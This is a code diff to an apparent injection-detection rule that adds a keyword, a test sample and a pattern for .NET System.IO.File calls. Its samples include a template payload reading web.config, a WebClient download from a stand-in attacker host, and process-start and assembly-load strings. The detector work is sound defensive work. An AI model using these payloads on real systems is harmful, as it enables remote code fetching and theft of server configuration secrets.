@@ -55,6 +55,7 @@ export const processCall: ValueRule = {
         'usr.bin',
         'libc.',
         'webclient',
+        'io.file.',
         'startinfo(',
         'process]',
         'assembly]',
@@ -75,6 +76,7 @@ export const processCall: ValueRule = {
     'new System.Net.WebClient().DownloadFile("http://evil.example.com/a","a")',
     '[Diagnostics.Process]::Start("calc")',
     '[Reflection.Assembly]::Load($bytes)',
+    '@Html.Raw(System.IO.File.ReadAllText("web.config"))',
     'new ProcessStartInfo("cmd.exe")',
   ],
   lookalikes: [
@@ -128,6 +130,12 @@ const sequences = compileSequences([
   { pattern: 'javaimporter ( *', score: 84, inProse: 50 },
   {
     pattern: "webclient ( ) . downloadfile|downloadstring|downloaddata|openread ( '",
+    score: 84,
+    inProse: 50,
+  },
+  {
+    pattern:
+      'system . io . file . readalltext|readalllines|readallbytes|writealltext|delete|copy (',
     score: 84,
     inProse: 50,
   },
